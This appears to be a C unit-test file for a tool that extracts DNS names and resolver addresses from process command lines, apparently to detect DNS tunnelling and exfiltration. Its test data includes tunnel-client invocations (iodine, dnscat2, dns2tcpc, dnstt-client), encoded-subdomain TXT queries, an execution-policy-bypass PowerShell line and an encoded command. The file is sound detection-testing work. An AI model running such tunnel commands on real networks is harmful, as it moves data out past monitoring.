/* SPDX-License-Identifier: Apache-2.0 */
/* Unit tests of names in command lines: what each program asks for, and what is no name. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>

#include <cmocka.h>

#include "format/linux/argv_name.h"
#include "format/host/process_id.h"
#include "record/event.h"

static struct ed_argv_name names[ED_ARGV_NAMES_MAX];
static unsigned n_names;

static void read_line(const char *line)
{
	n_names = ed_command_names(ed_span_of(NULL, 0), ed_span_str(line), names);
}

static const char *name(unsigned i)
{
	static char text[ED_NAME_TEXT_MAX + 1];

	assert_true(i < n_names);
	ed_name_to_text(ed_span_of(names[i].name.wire, names[i].name.n), text);
	return text;
}

static void assert_one(const char *line, const char *want)
{
	read_line(line);
	if (n_names != 1)
		fail_msg("%u names in: %s", n_names, line);
	assert_string_equal(name(0), want);
}

static void assert_none(const char *line)
{
	read_line(line);
	if (n_names != 0)
		fail_msg("%s in: %s", name(0), line);
}

static const char *server(unsigned i)
{
	static char text[ED_ADDR_TEXT_MAX];

	ed_addr_to_text(&names[i].server, text);
	return text;
}

static void test_dig(void **state)
{
	(void)state;
	assert_one("dig @192.0.2.53 +short TXT mfrggzdf.t.example.com", "mfrggzdf.t.example.com");
	assert_int_equal(names[0].qtype, ED_RR_TXT);
	assert_string_equal(server(0), "192.0.2.53");
	assert_false(names[0].is_tunnel || names[0].is_child);
	assert_one("/usr/bin/dig -p 5353 -tMX a.example", "a.example");
	assert_int_equal(names[0].qtype, ED_RR_MX);
	assert_one("dig a.example TYPE65399 IN", "a.example");
	assert_int_equal(names[0].qtype, 65399);
	assert_one("drill -Q a.example @2001:db8::53 NULL", "a.example");
	assert_string_equal(server(0), "2001:db8::53");
	assert_one("dig -q txt -t any", "txt");
	assert_int_equal(names[0].qtype, ED_RR_ANY);
	assert_one("doggo a.example --type TXT @192.0.2.1", "a.example");
	assert_int_equal(names[0].qtype, ED_RR_TXT);
	read_line("dig a.example TXT b.example MX @192.0.2.53");
	assert_int_equal(n_names, 2);
	assert_int_equal(names[0].qtype, ED_RR_TXT);
	assert_int_equal(names[1].qtype, ED_RR_MX);
	assert_string_equal(server(1), "192.0.2.53");
	assert_none("dig");
	assert_none("dig -x 192.0.2.1");
	assert_none("dig -f names.txt");
}

static void test_host_and_nslookup(void **state)
{
	(void)state;
	assert_one("host -t TXT mfrggzdf.t.example.com 127.0.0.10", "mfrggzdf.t.example.com");
	assert_int_equal(names[0].qtype, ED_RR_TXT);
	assert_string_equal(server(0), "127.0.0.10");
	assert_one("C:\\Windows\\System32\\nslookup.exe -type=TXT a.example 192.0.2.53",
		   "a.example");
	assert_int_equal(names[0].qtype, ED_RR_TXT);
	assert_one("nslookup -q=cname A.Example", "a.example");
	assert_int_equal(names[0].qtype, ED_RR_CNAME);
	assert_one("busybox nslookup a.example", "a.example");
	assert_one("getent ahosts a.example", "a.example");
	assert_none("getent passwd a.example");
	assert_one("resolvectl query --type=TXT a.example", "a.example");
	assert_int_equal(names[0].qtype, ED_RR_TXT);
	assert_none("resolvectl status eth0.example");
	assert_one("Resolve-DnsName -Type TXT -Name a.example -Server 192.0.2.5", "a.example");
	assert_int_equal(names[0].qtype, ED_RR_TXT);
	assert_string_equal(server(0), "192.0.2.5");
}

static void test_urls(void **state)
{
	(void)state;
	assert_one("curl -sS -o /dev/null https://x@a.example:8443/p?q#f", "a.example");
	assert_one("curl --max-time 5 b.example/index", "b.example");
	assert_one("wget -q http://a.example", "a.example");
	assert_none("curl -H x.example: http://192.0.2.1/");
	assert_none("curl http://[2001:db8::1]/");
	assert_one("curl https://dns.example/dns-query?name=mfrggzdf.t.example.com&type=TXT",
		   "mfrggzdf.t.example.com");
	assert_int_equal(names[0].qtype, ED_RR_TXT);
	assert_one("ping -c 1 a.example", "a.example");
	assert_one("ssh -p 22 root@a.example id", "a.example");
	assert_one("/usr/bin/nc.openbsd -u a.example 53", "a.example");
	assert_none("nc 192.0.2.1 53");
}

static void test_tunnels(void **state)
{
	(void)state;
	assert_one("/usr/sbin/iodine -f -P secret -T NULL 192.0.2.53 t.example.com",
		   "t.example.com");
	assert_true(names[0].is_tunnel);
	assert_string_equal(server(0), "192.0.2.53");
	assert_one("iodined -f 10.0.0.1 t.example.com", "t.example.com");
	assert_one("dnscat2 --dns domain=t.example.com,server=192.0.2.53 --secret=x",
		   "t.example.com");
	assert_string_equal(server(0), "192.0.2.53");
	assert_one("dnscat t.example.com", "t.example.com");
	assert_one("dns2tcpc -r ssh -z t.example.com -k x 192.0.2.53", "t.example.com");
	assert_true(names[0].is_tunnel);
	assert_string_equal(server(0), "192.0.2.53");
	assert_one("dnstt-client -udp 192.0.2.53:53 -pubkey-file k t.example.com 127.0.0.1:7000",
		   "t.example.com");
	assert_one("slipstream-client --domain t.example.com --resolver 192.0.2.1",
		   "t.example.com");
	assert_one("python3.11 ./dnscat2.py t.example.com", "t.example.com");
}

static void test_scripts(void **state)
{
	(void)state;
	assert_one("sh -c 'dig +short TXT mfrggzdf.t.example.com 2>/dev/null | head -1'",
		   "mfrggzdf.t.example.com");
	assert_true(names[0].is_child && !names[0].is_unsure);
	assert_int_equal(names[0].qtype, ED_RR_TXT);
	read_line("bash -lc \"x=1; if true; then host a.example; fi; (nslookup b.example)\"");
	assert_int_equal(n_names, 2);
	assert_string_equal(name(1), "b.example");
	assert_one("sudo -u nobody timeout -k 1 5 env A=b dig a.example", "a.example");
	assert_true(names[0].is_child);
	assert_one("cmd.exe /d /c nslookup a.example & echo x", "a.example");
	assert_one("cmd /c \"nslookup -q=txt a.example\"", "a.example");
	assert_int_equal(names[0].qtype, ED_RR_TXT);
	assert_one("powershell -nop -ep bypass -c \"$r = Resolve-DnsName -Type TXT a.example\"",
		   "a.example");
	assert_false(names[0].is_child);
	assert_one("powershell -Command Resolve-DnsName a.example | select x", "a.example");
	assert_one("powershell -c \"[Net.Dns]::GetHostAddresses('a.example')\"", "a.example");
	assert_one("pwsh -enc UgBlAHMAbwBsAHYAZQAtAEQAbgBzAE4AYQBtAGUAIABhAC4AYgA=", "a.b");
	assert_one("python3 -c \"import socket; socket.gethostbyname( 'a.example')\"", "a.example");
	assert_false(names[0].is_child);
	assert_one("osascript -e \"do shell script 'dig TXT a.example'\"", "a.example");
	assert_true(names[0].is_child);
	assert_one("xargs -n1 dig +short a.example", "a.example");
	assert_one("watch -n 5 \"dig a.example\"", "a.example");
}

/* The shell knows these, and an argument of an unknown program is none. */
static void test_not_names(void **state)
{
	(void)state;
	assert_none("sh -c 'for i in a b; do dig $i.t.example.com; done'");
	assert_none("sh -c 'dig $(cat x).t.example.com TXT'");
	assert_none("cmd /c for /f %i in (x) do nslookup %i.t.example.com");
	assert_none("vim a.example");
	assert_none("rsync dig a.example");
	assert_none("");
	assert_none("   ");
	assert_none("sh -c");
	assert_none("sudo");
	assert_none("powershell -enc");
}

static void test_argv(void **state)
{
	const struct ed_span argv[] = { ed_span_str("host"), ed_span_str("-t"), ed_span_str("TXT"),
					ed_span_str("exfil data.lan.example.com"),
					ed_span_str("127.0.0.10") };
	struct ed_span many[200];

	(void)state;
	n_names = ed_argv_names(ed_span_str("/usr/bin/host"), argv, 5, names);
	assert_int_equal(n_names, 1);
	assert_string_equal(name(0), "exfil\\032data.lan.example.com");
	/* the image decides */
	assert_int_equal(ed_argv_names(ed_span_str("/opt/x"), argv, 5, names), 0);
	assert_int_equal(ed_argv_names(ed_span_str("/bin/busybox"), argv, 5, names), 1);
	assert_int_equal(ed_argv_names(ed_span_str("/usr/bin/dig"), argv, 0, names), 0);
	for (unsigned i = 0; i < 200; i++)
		many[i] = ed_span_str("a.example");
	assert_int_equal(ed_argv_names(ed_span_str("/usr/bin/dig"), many, 200, names),
			 ED_ARGV_NAMES_MAX);
}

/* Long and hostile texts end in time: quotes that never close, scripts in scripts. */
static void test_hostile(void **state)
{
	size_t n = 1 << 20;
	uint8_t *p = malloc(n);

	(void)state;
	assert_non_null(p);
	memset(p, '\\', n);
	memcpy(p, "dig ", 4);
	(void)ed_command_names(ed_span_of(NULL, 0), ed_span_of(p, n), names);
	for (size_t i = 4; i + 1 < n; i += 2)
		memcpy(p + i, "\\\"", 2);
	p[4] = '"';
	(void)ed_command_names(ed_span_of(NULL, 0), ed_span_of(p, n), names);
	memset(p, '\'', n);
	memcpy(p, "sh -c \"", 7);
	p[n - 1] = '"';
	(void)ed_command_names(ed_span_of(NULL, 0), ed_span_of(p, n), names);
	memset(p, '(', n);
	memcpy(p, "python -c ", 10);
	assert_int_equal(ed_command_names(ed_span_of(NULL, 0), ed_span_of(p, n), names), 0);
	free(p);
}

static void test_process_id(void **state)
{
	uint64_t a = ed_process_id_from_guid(ed_span_str("{42c2e005-bec3-5f7e-a902-000000000400}"));

	(void)state;
	assert_true(a != 0);
	assert_true(a ==
		    ed_process_id_from_guid(ed_span_str("42C2E005-BEC3-5F7E-A902-000000000400")));
	assert_true(ed_process_id_from_guid(
			    ed_span_str("{00000000-0000-0000-0000-000000000000}")) == 0);
	assert_true(ed_process_id_from_guid(ed_span_str("")) == 0);
	assert_true(ed_process_id_from_pid(0, 0, 0) == 0);
	assert_true(ed_process_id_from_pid(0, 7, 0) == ed_process_id_from_pid(0, 7, 0));
	assert_true(ed_process_id_from_pid(0, 7, 0) != ed_process_id_from_pid(0, 8, 0));
	assert_true(ed_process_id_from_pid(1, 7, 0) != ed_process_id_from_pid(0, 7, 0));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_dig),        cmocka_unit_test(test_host_and_nslookup),
		cmocka_unit_test(test_urls),       cmocka_unit_test(test_tunnels),
		cmocka_unit_test(test_scripts),    cmocka_unit_test(test_not_names),
		cmocka_unit_test(test_argv),       cmocka_unit_test(test_hostile),
		cmocka_unit_test(test_process_id),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
